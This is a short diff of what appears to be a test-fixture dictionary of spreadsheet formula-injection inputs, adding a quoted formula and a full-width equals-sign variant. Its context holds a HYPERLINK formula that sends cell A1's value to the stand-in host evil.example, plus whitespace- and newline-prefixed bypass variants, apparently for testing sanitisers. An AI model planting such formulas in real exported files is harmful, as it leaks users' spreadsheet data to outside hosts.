@@ -86,8 +86,8 @@ FORMULAS = {
     "formula_newline": "\n=1",
     "formula_blank": "  =1+1",
     "formula_link": '=HYPERLINK("http://evil.example?"&A1,"ok")',
-    "formula_quote": '="1+1"',
-    "formula_sum": "=SUM(A1:A9)",
+    "formula_quote": '"=1+1"',
+    "formula_wide": "\uff1d1+1",
 }
 SYNTAX = {
     "quotes": "\"'`",
